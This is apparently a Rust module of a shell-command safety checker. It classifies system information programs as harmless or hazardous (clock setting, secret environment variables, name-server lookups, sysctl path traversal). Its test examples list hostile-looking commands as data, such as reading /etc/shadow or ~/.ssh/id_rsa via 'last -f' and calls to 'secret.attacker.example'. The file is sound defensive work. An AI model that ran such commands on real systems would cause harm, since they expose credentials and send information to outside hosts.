//! Programs that tell something about the machine, the user or the time, and change nothing.

use super::super::reading::{Invocation, Reading};
use super::super::value::Arg;
use super::super::{Effect, Hazard};
use super::spec::{Consults, Program, Style, custom, only_asks_for_help, safe};
use crate::words::listed;
use alloc::format;

/// The family.
pub const PROGRAMS: &[Program] = &[
    // `-s` sets the clock, and so does an operand that does not begin with `+`.
    custom("date gdate", read_date).ignores_variables(),
    // Operands set the name; `-F` and `-b` too.
    safe("hostname ghostname", "-a -A -d -f -i -I -s -y --alias --all-fqdns --all-ip-addresses --domain --fqdn --ip-address --long --short", ""),
    custom("printenv gprintenv", read_printenv).ignores_variables(),
    safe("uname guname", "-a -i -m -n -o -p -r -s -v --all --kernel-name --kernel-release --kernel-version --machine \
         --nodename --operating-system --processor --hardware-platform", "").ignores_variables().names_at_worst(),
    safe("whoami logname tty", "-s --quiet --silent", "").ignores_variables().names_at_worst(),
    safe("id groups", "-a -A -F -g -G -n -p -P -r -u -z -Z --context --group --groups --name --real --user --zero", ":*").ignores_variables().names_at_worst(),
    // `who FILE` and `users FILE` read another record of who was there.
    safe("who users", "-a -b -d -H -l -m -p -q -r -s -t -T -u -w --all --boot --count --dead --heading --login --mesg --message \
         --process --runlevel --short --time --users --writable", "< :"),
    safe("w", "-f -h -i -o -p -s -u --from --ip-addr --no-current --no-header --old-style --pids --short", ":"),
    // `-f` names another record; BSD's `-f` does too.
    safe("last lastb", "-# -a -d -f< -F -i -n: -p: -R -s: -t: -w -x --dns --file< --fullnames --fulltimes --hostlast --ip \
         --limit: --nohostname --present: --since: --system --time-format: --until:", ":*"),
    safe("lastlog", "-b: -t: -u: --before: --time: --user:", ""),
    safe("uptime", "-p -s --pretty --since", "").ignores_variables().names_at_worst(),
    safe("cal ncal", "-# -1 -3 -A: -B: -d: -h -H: -j -m: -M -n: -s -S -w -y -Y --monday --sunday --julian --year --three --one", ":*").names_at_worst(),
    safe("nproc gnproc", "--all --ignore:", "").ignores_variables().names_at_worst(),
    safe("free vmstat", "-b -c: -g -h -k -l -L -m -s: -t -v -w -a -f -n -S: --bytes --kilo --mega --giga --human --lohi --si \
         --total --wide --count: --seconds:", ":*").names_at_worst(),
    // Left out of both: `-s`, which names a directory to read instead of `/`.
    safe("lscpu", "-a -b -B -c -C? -e? -h -J -p? -x -y --all --bytes --caches? --extended? --hex --json --offline --online --output-all \
         --parse? --physical", ""),
    safe("lsmem", "-a -b -h -J -n -o: -P -r -S: --all --bytes --json --noheadings --output: --output-all --pairs --raw --split: --summary?", ""),
    // Left out: `-D`, `-i`, `-p` and `-F`, which name files, and `-M`, which probes.
    safe("lsusb", "-d: -h -s: -t -v -vv --verbose --tree", ""),
    safe("lspci", "-b -d: -D -h -k -m -mm -n -nn -P -PP -s: -t -v -vv -vvv -x", ""),
    safe("lsmod", "", ""),
    safe("lsipc", "-b -c -e -g -h -i: -J -l -m -n -o: -q -r -s -t --bytes --creator --export --global --id: --json --list --noheadings \
         --output: --queues --raw --semaphores --shmems --time", ""),
    safe("lsns", "-h -J -l -n -o: -p: -r -t: -u -W --json --list --noheadings --notruncate --nowrap --output: --output-all --raw --task: \
         --tree? --type:", ":"),
    safe("sw_vers system_profiler", "-productName -productVersion -buildVersion -json -xml -detailLevel: --productName --productVersion \
         --buildVersion", ":*").style(Style::Single),
    safe("locale", "-a -c -k -m --all-locales --category-name --charmaps --keyword-name", ":*"),
    safe("getconf", "-a -v:", ": <"),
    safe("which gwhich whereis", "-a -b -B: -f -l -m -M: -s -S: -u --all --skip-alias --skip-dot --skip-functions --skip-tilde --tty-only", ":*").names_at_worst(),
    // Processes. `ps` has BSD letters without a dash (`aux`); `e` among them shows every process's environment.
    custom("ps", read_ps),
    safe("pgrep pidof", "-a -c -d: -f -F< -g: -G: -i -l -n -o -P: -q -r: -s: -S -t: -u: -U: -v -w -x --count --delimiter: --euid: --exact \
         --full --group: --ignore-case --inverse --list-full --list-name --newest --oldest --parent: --pgroup: \
         --pidfile< --session: --terminal: --uid: --single-shot", ":*"),
    safe("pstree", "-a -A -c -C: -g -G -h -H: -l -n -N: -p -s -S -t -T -u -U -Z --arguments --ascii --compact-not --long \
         --numeric-sort --show-parents --show-pids --unicode", ":*"),
    custom("lsof", read_lsof),
    custom("ss netstat", read_sockets),
    safe("mount", "-l", ""),
    // `top` and its kin only look when they do not wait for keys.
    custom("top htop btop", read_top).consults(Consults::Settings),
    safe("iostat mpstat pidstat sar", "-A -b -c -d -h -H -k -m -n -N -p: -P: -t -T -u -x -y -z", ":*"),
    custom("man apropos whatis info", read_man).consults(Consults::Settings),
    safe("tput", "-T:", ":*"),
    safe("stty", "-a --all", ""),
    safe("ipcs", "-a -b -c -i: -l -m -p -q -s -t -u", ""),
    custom("getent", read_getent),
    safe("uuidgen", "-m -n: -N: -r -s -t --md5 --name: --namespace: --random --sha1 --time", "").names_at_worst(),
    safe("lsb_release", "-a -c -d -i -r -s -v --all --codename --description --id --release --short --version", ""),
    safe("lshw", "-businfo -C: -class: -disable: -enable: -html -json -notime -numeric -quiet -sanitize -short -xml", "").style(Style::Single),
    safe("hwinfo", "--bios --cpu --disk --gfxcard --memory --monitor --netcard --network --pci --short --sound --storage --usb", ""),
    safe("sensors", "-A -f -j -u --fahrenheit --json --no-adapter", ":*"),
    safe("inxi", "-b -c: -C -D -F -G -I -m -M -N -S -x -xx -xxx -y: -z", "").consults(Consults::Settings),
    safe("neofetch fastfetch screenfetch", "--stdout --off", "").consults(Consults::Settings),
    // Left out: whatever sets clocks, limits or modes, loops, or writes a file.
    safe("nvidia-smi", "-d: -i: -L -q -u -x --display: --format: --id: --list-gpus --query --query-accounted-apps: --query-compute-apps: --query-gpu: \
         --unit --xml-format", "").style(Style::Single),
    safe("rocm-smi", "-a -i --csv --json --showallinfo --showclocks --showdriverversion --showid --showmemuse --showmeminfo: --showpids --showpower \
         --showproductname --showtemp --showuse", ""),
    // With a word behind its flags it starts that program.
    safe("numactl", "-H -s --hardware --show", ""),
    safe("acpi", "-a -b -c -i -s -t -V --ac-adapter --battery --cooling --everything --thermal", ""),
    safe("pmap pwdx", "-d -p -q -x -X -XX --device --extended --quiet --show-path", ":*"),
    safe("lslocks lsfd lsirq", "-J -n -o: -p: -r -u --json --noheadings --notruncate --output: --output-all --pid: --raw", ""),
    safe("procs", "-a -d -i: -o -r -t --and --color: --insert: --nand --no-header --only: --or --sorta: --sortd: --thread --tree", ":*").consults(Consults::Settings),
    safe("clear", "-T: -x", ""),
    safe("infocmp toe", "-1 -a -C -I -L -r -x", ":*"),
    safe("glxinfo vulkaninfo clinfo", "-B -l --json --list --raw --summary", ""),
    safe("errno", "-l -s: --list --search:", ":*"),
    custom("ip", read_ip),
    safe("ifconfig", "-a -s -v -l", ":"),
    custom("sysctl", read_sysctl),
];

fn harmless(reading: &mut Reading<'_>, call: &Invocation) {
    let message = format!("`{}` only tells", call.name);
    reading.add(Effect::Harmless, "read_only_command", message, call.span);
}

fn read_date(reading: &mut Reading<'_>, call: &Invocation) {
    const DATE: Program = safe(
        "date gdate",
        "-d: -f< -I? -j -n -r: -R -u -v: -z: --date: --file< --iso-8601? --reference< --resolution --rfc-2822 --rfc-3339: \
         --rfc-email --universal --utc --debug",
        ":*",
    );
    // BSD: with `-j` nothing is set, and `-f` takes a format in front of the date it reads.
    let parsed = super::spec::parse(Style::Gnu, DATE.flags, &call.args);
    let sets = |parsed: &super::spec::Parsed<'_>| {
        parsed.operands.iter().any(|operand| !operand.value.prefix().starts_with('+'))
    };
    match parsed {
        Err(unread) => reading.unread(&call.name, unread),
        Ok(parsed) if sets(&parsed) && !parsed.has_early(&["-j"]) => {
            let message = "`date` may set the clock";
            reading.hazard(
                Hazard::Machine,
                "machine",
                message,
                Some("`date +FORMAT` shows the time"),
                call.span,
            );
        }
        Ok(parsed) => {
            parsed.value_effects(reading, call);
            harmless(reading, call);
        }
    }
}

/// With names it shows those; without, everything.
fn read_printenv(reading: &mut Reading<'_>, call: &Invocation) {
    let named = call.args.iter().any(|arg| arg.text().is_some_and(|text| !text.starts_with('-')));
    let secret = call.args.iter().any(|arg| arg.text().is_none_or(|name| reading.is_secret_variable(name)));
    if named && secret {
        let message = format!("`{}` shows a variable that looks like a secret", call.name);
        return reading.hazard(Hazard::Secret, "print_environment", message, None, call.span);
    }
    if named || only_asks_for_help(&call.args) {
        return harmless(reading, call);
    }
    let message = format!("`{}` prints the whole environment", call.name);
    reading.hazard(Hazard::Secret, "print_environment", message, None, call.span);
}

fn read_ps(reading: &mut Reading<'_>, call: &Invocation) {
    const PS: &str = "-a -A -ax -aux -auxw -auxww -auxf -axu -axf -d -e -ef -efw -efww -efH -eF -eLf -efL -el -f -F -H -j -l -ly -L -M -m -r -T -w -ww \
         -x -eo: -ao: -axo: -Ao: -o: -O: -p: -q: -C: -u: -U: -g: -G: -t: --format: --forest --headers --no-headers --no-heading \
         --pid: --ppid: --sort: --user: --cols: --width:";
    match super::spec::parse(Style::Whole, PS, &call.args) {
        Ok(parsed) if !shows_no_environment(&parsed) => {
            let message = "`ps` may show the environment of other programs";
            let instead = Some("`ps aux` shows programs alone");
            reading.hazard(Hazard::Secret, "print_environment", message, instead, call.span);
        }
        Ok(_) => harmless(reading, call),
        Err(unread) => reading.unread(&call.name, unread),
    }
}

/// What it cannot read in one way it reads in the other, in which an `e` anywhere among the letters shows
/// environments: so there is none, or nothing that could fail beside it.
fn shows_no_environment(parsed: &super::spec::Parsed<'_>) -> bool {
    const CERTAIN: &str = "-A -d -e -ef -efw -efww -efH -eF -eLf -efL -el -f -F -H -j -l -ly -L -w -ww -eo -Ao -o -O --format --forest \
         --headers --no-headers --no-heading --sort";
    let letters = |flag: &str| !flag.starts_with("--") && flag.contains('e');
    let has_letter = parsed.flags.iter().any(|flag| letters(flag.name));
    let certain = parsed.flags.iter().all(|flag| listed(CERTAIN, flag.name)) && parsed.operands.is_empty();
    let values = parsed.flags.iter().all(|flag| match &flag.value {
        Some(value) => value.text().is_some_and(|text| is_value(flag.name, text)),
        None => true,
    });
    values
        && (!has_letter || certain)
        && parsed.operands.iter().all(|operand| operand.text().is_some_and(is_plain))
}

/// Columns by their names, numbers, or a name that is no set of letters with an `e`.
fn is_value(flag: &str, text: &str) -> bool {
    const COLUMNS: &str = "args cmd comm command cputime c cpu %cpu pcpu %mem pmem mem etime etimes elapsed euid euser egid egroup fname gid group lstart          lwp ni nice nlwp pgid pgrp pid ppid pri psr rss rssize rsz ruser ruid s sid sess size stat state start start_time stime sz tid time tname          tt tty ucmd ucomm uid uname user vsize vsz wchan";
    let column = |name: &str| {
        let name = name.trim_start_matches(['+', '-']);
        listed(COLUMNS, name.split('=').next().unwrap_or(name).split(':').next().unwrap_or(name))
    };
    match flag {
        "-o" | "-O" | "-eo" | "-ao" | "-axo" | "-Ao" | "--format" | "--sort" => {
            text.split([',', ' ']).all(column)
        }
        "-C" => text.chars().all(|c| c.is_ascii_alphanumeric() || "_-.".contains(c)),
        "-u" | "-U" | "-g" | "-G" | "-t" | "--user" => {
            text.chars().all(|c| (c.is_ascii_alphanumeric() && c != 'e') || "_-.,/".contains(c))
        }
        _ => text.chars().all(|c| c.is_ascii_digit() || c == ','),
    }
}

/// Process numbers, or letters without a dash among which is no `e`.
fn is_plain(operand: &str) -> bool {
    operand.chars().all(|c| c.is_ascii_digit() || c == ',')
        || operand.chars().all(|c| "acfghjlmnrSTuvwxX".contains(c))
}

/// Hosts and networks are looked up by asking other machines, and `shadow` holds passwords.
fn read_getent(reading: &mut Reading<'_>, call: &Invocation) {
    const LOCAL: &[&str] = &["passwd", "group", "services", "protocols"];
    let words: Option<alloc::vec::Vec<&str>> = call.args.iter().map(|arg| arg.text()).collect();
    match words.as_deref() {
        Some([database, keys @ ..])
            if LOCAL.contains(database) && keys.iter().all(|key| !key.starts_with('-')) =>
        {
            harmless(reading, call);
        }
        Some(["--help" | "--version"]) => harmless(reading, call),
        Some(_) | None => {
            let message = "`getent` may ask other machines, or show passwords";
            reading.hazard(Hazard::Network, "network", message, None, call.span);
        }
    }
}

/// A name of the kernel's, with dots or slashes: it becomes a path below `/proc/sys`, which must not climb out of it.
/// `name=value` sets.
fn is_kernel_name(text: &str) -> bool {
    let plain = |c: char| c.is_ascii_alphanumeric() || "._-/*?:@".contains(c);
    let climbs = text.contains("..") || text.contains("//");
    text.chars().all(plain) && !climbs
}

/// What shows a value of the kernel; a file of settings (`-p`) is not described.
fn read_sysctl(reading: &mut Reading<'_>, call: &Invocation) {
    const FLAGS: &str = "-a -A -b -d -e -h -i -l -n -N -o -x -X --all --names --values --binary --ignore";
    match super::spec::parse(Style::Gnu, FLAGS, &call.args) {
        Ok(parsed) if parsed.operands.iter().all(|operand| operand.text().is_some_and(is_kernel_name)) => {
            harmless(reading, call);
        }
        Ok(_) => {
            let message = "`sysctl` sets a value, or is given what is no name of one";
            reading.hazard(Hazard::Machine, "machine", message, None, call.span);
        }
        Err(unread) => reading.unread(&call.name, unread),
    }
}

fn read_top(reading: &mut Reading<'_>, call: &Invocation) {
    let top = safe(
        "top",
        "-# -b -c -d: -e: -E: -H -i -l: -L: -n: -o: -O: -p: -pid: -s: -S -stats: -u: -U: -w? -1",
        "",
    );
    let batch = call
        .args
        .iter()
        // skipped: without the flag for certain it stops.
        .filter_map(|arg| arg.text())
        .any(|text| text.starts_with("-b") || text.starts_with("-l"));
    if call.name == "top" && batch || only_asks_for_help(&call.args) {
        return top.read(reading, call);
    }
    let message = format!("`{}` waits for keys", call.name);
    reading.add(Effect::Opaque, "interactive", message, call.span);
}

/// Left out: `-P`, `-H`, `-C` and `-l`, which run programs or take files; a name with a slash is a file.
fn read_man(reading: &mut Reading<'_>, call: &Invocation) {
    const MAN: Program = safe(
        "man apropos whatis info",
        "-a -f -i -I -k -K -s: -S: -w -W -7 --all --apropos --whatis --sections: --where --path --location --names-only --regex \
         --wildcard --exact --no-subpages --subpages --nh --nj",
        ":*",
    );
    // To `info` a `-f` names a file, and so may any other word.
    let is_name =
        |arg: &Arg| arg.text().is_some_and(|text| !text.contains(['/', '.']) && !text.starts_with('-'));
    let file = call.args.iter().find(|arg| match call.name.as_str() {
        "info" => !is_name(arg),
        _ => arg.value.prefix().contains('/') || arg.text().is_none(),
    });
    match file {
        Some(file) => {
            let message = format!("`{}` formats a file that was not read", call.name);
            reading.add(Effect::Opaque, "unknown_flag", message, file.span);
        }
        None => MAN.read(reading, call),
    }
}

/// `ip addr`, `ip route show`: everything but showing changes the network.
fn read_ip(reading: &mut Reading<'_>, call: &Invocation) {
    // skipped: no word of `ip` is like that.
    let words: alloc::vec::Vec<&str> = call.args.iter().map(|arg| arg.text().unwrap_or("?")).collect();
    let flags = words.iter().take_while(|word| word.starts_with('-')).count();
    let known_flags = words.iter().take(flags).all(|flag| {
        [
            "-4", "-6", "-br", "-brief", "-c", "-color", "-d", "-details", "-j", "-json", "-o", "-oneline",
            "-p", "-pretty", "-s", "-stats", "-V",
        ]
        .contains(flag)
    });
    let shows = match words.get(flags..).unwrap_or(&[]) {
        [] => true,
        [object] => is_object(object),
        [object, verb, ..] => is_object(object) && ["show", "list", "ls", "get"].contains(verb),
    };
    if known_flags && shows {
        return harmless(reading, call);
    }
    reading.hazard(
        Hazard::Machine,
        "machine",
        "`ip` may change the network",
        Some("`ip addr show` shows it"),
        call.span,
    );
}

fn is_object(word: &str) -> bool {
    ["a", "addr", "address", "l", "link", "n", "neigh", "r", "ro", "route", "rule"].contains(&word)
}

const LSOF: &str = "-# -a -b -c: -C -d: -F? -g? -h -i? -K? -l -L -M -n -N -o -O -p: -P -R -s? -t -T? -u: -U -v -V -w -X -x? +c: +D< +d< +L";

/// `-i @name` asks a name server.
fn read_lsof(reading: &mut Reading<'_>, call: &Invocation) {
    let names_host = |arg: &&Arg| arg.text().is_none_or(|text| text.contains('@'));
    match call.args.iter().find(names_host) {
        Some(arg) => asks_name_server(reading, call, arg),
        None => safe("lsof", LSOF, "<*").read(reading, call),
    }
}

const SOCKETS: &str = "-0 -4 -6 -a -A: -b -e -E -f: -g -H -i -I: -l -L -m -M -n -o -O -p -P: -Q -r -s -S -t -T -u -v -w -W -x -Z -z --all \
         --extended --family: --inet --inet6 --info --listening --memory --no-header --numeric --oneline --options --process \
         --processes --program --raw --resolve --summary --tcp --udp --unix";

/// Words of a filter that name no host.
const FILTER: &str = "state exclude src dst sport dport eq ne lt le gt ge and or not all connected established syn-sent \
    syn-recv fin-wait-1 fin-wait-2 time-wait closed close-wait last-ack listening listen closing synchronized bucket big";

/// A host in a filter is looked up at a name server.
fn read_sockets(reading: &mut Reading<'_>, call: &Invocation) {
    let is_plain = |text: &str| {
        text.starts_with('-')
            || listed(FILTER, text)
            || text.bytes().all(|b| b.is_ascii_digit() || b":.*=!<>()[]/".contains(&b))
    };
    let safe_values = ["inet", "inet6", "unix", "link", "netlink", "tcp", "udp", "raw", "all"];
    let names_host =
        |arg: &&Arg| !arg.text().is_some_and(|text| is_plain(text) || safe_values.contains(&text));
    match call.args.iter().find(names_host) {
        Some(arg) => asks_name_server(reading, call, arg),
        None => safe("ss", SOCKETS, ":*").read(reading, call),
    }
}

fn asks_name_server(reading: &mut Reading<'_>, call: &Invocation, arg: &Arg) {
    let message = format!("`{}` may ask a name server for a host that is named", call.name);
    reading.hazard(Hazard::Network, "network", message, None, arg.span);
}

/// Programs of this family that take up nothing by themselves that could carry harm; see [`super::loaded`].
#[cfg(test)]
pub const LOADS_NOTHING: &str = "date gdate hostname ghostname printenv gprintenv uname guname whoami logname tty id groups who w \
    users last lastb lastlog uptime cal ncal nproc gnproc free vmstat lscpu lsusb lspci lsmod lsmem lsipc lsns \
    sw_vers system_profiler locale getconf which gwhich whereis ps pgrep pidof pstree lsof ss netstat mount \
    top htop btop iostat mpstat pidstat sar man apropos whatis info tput stty ipcs getent uuidgen lsb_release \
    lshw hwinfo sensors inxi neofetch fastfetch screenfetch nvidia-smi rocm-smi numactl acpi pmap pwdx \
    lslocks lsfd lsirq procs clear infocmp toe glxinfo vulkaninfo clinfo errno ip ifconfig sysctl";

#[cfg(test)]
const EXAMPLES: &str = r#"
        ask   last -f /etc/shadow
        ask   lscpu -s fake
        ask   lscpu -sfake
        ask   lsmem -s fake
        allow lscpu -e
        allow lspci -nnk -s 00:1f
        ask   lspci -p./x
        allow lsns -t net
        ask   last -n 5 -f ~/.ssh/id_rsa
        ask   last --file=/etc/shadow
        ask   lastb -f /etc/shadow
        allow last -n 5
        allow last -f /var/log/wtmp.1
        allow last reboot
        ask   who /etc/shadow
        ask   who -a /etc/shadow
        ask   users /etc/shadow
        allow who -b
        allow who am i
        allow w -h
        allow users
        ask   sysctl -n /../../etc/shadow
        ask   sysctl -n kernel/../../../etc/shadow
        ask   sysctl -p /etc/shadow
        ask   sysctl kernel.hostname=x
        allow sysctl -n kernel.ostype
        allow sysctl net/ipv4/ip_forward
        allow sysctl -a
        allow info bash
        ask   info -f .env
        ask   info .env
        ask   info --file=.env
        allow man -k foo
        allow date
        allow date -u +%Y-%m-%d
        allow date -d yesterday +%s
        ask   date -s '2020-01-01'
        ask   date 010100002020
        ask   date 010100002020 -j
        allow date -j 010100002020
        ask   date -f .env
        allow date -r README.md
        allow hostname
        ask   hostname evil
        ask   hostname -F x
        allow printenv PATH
        ask   printenv
        ask   printenv -0
        allow uname -a
        allow whoami
        allow id -u
        allow ps aux
        allow ps -ef
        allow ps -eo pid,etime,args
        allow ps -aux
        allow ps -p 1 -o pid,comm=
        allow ps -C node
        allow ps -u root
        allow ps -eo pid,ppid,cmd --sort=-%mem
        ask   ps auxe
        ask   ps -auxe
        ask   ps -aux -ef
        ask   ps -ef -u x
        ask   ps -u axe
        ask   ps -p 1 -o pid,environ
        ask   ps -p 1 eww
        allow pgrep -fl node
        ask   pkill node
        allow lsof -i :3000
        allow lsof -nP -iTCP:3000 -sTCP:LISTEN
        ask   lsof -i @secret.attacker.example
        ask   lsof -i@secret.attacker.example:80
        allow lsof -p 1
        allow ss -tlnp
        allow ss -ltn sport = :3000
        allow ss -t state established
        allow netstat -tulpn
        ask   ss dst secret.attacker.example
        ask   ss -t dst $x
        ask   ss -f secret.attacker.example
        allow which ls
        allow man ls
        ask   man -P sh ls
        ask   man -H'sh #' man
        ask   man ./x.1
        ask   man -C x ls
        allow top -b -n 1
        ask   top
        allow ip addr show
        allow ip -br a
        ask   ip link set eth0 down
        ask   ip netns exec x sh
        allow sysctl kernel.ostype
        ask   sysctl kernel.x=1
        ask   sysctl -w kernel.x=1
        allow getent passwd root
        allow getent group
        ask   getent hosts x.example
        ask   getent ahosts x.example
        ask   getent shadow
        ask   getent -s dns passwd
        ask   getent passwd -s dns
        ask   getent "$DATABASE" x
        allow uuidgen
        allow lsb_release -a
        allow nvidia-smi
        allow nvidia-smi --query-gpu=name,memory.used --format=csv
        ask   nvidia-smi -pm 1
        ask   nvidia-smi -l 1
        ask   nvidia-smi -f /etc/x
        ask   nvidia-smi --gpu-reset
        allow numactl --hardware
        ask   numactl --show rm x
        ask   numactl sh
        allow sensors
        ask   sensors -s
        allow lshw -short
        ask   lshw -dump /etc/x
        ask   hwinfo --log /etc/x
        allow pmap 1
        allow procs node
        ask   procs --watch
        allow clear
        allow mount
        ask   mount /dev/sda1 /mnt
        allow uptime
        allow free -h
        allow nproc
"#;

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn examples_read_as_they_should() {
        super::super::examples::run(EXAMPLES);
    }
}
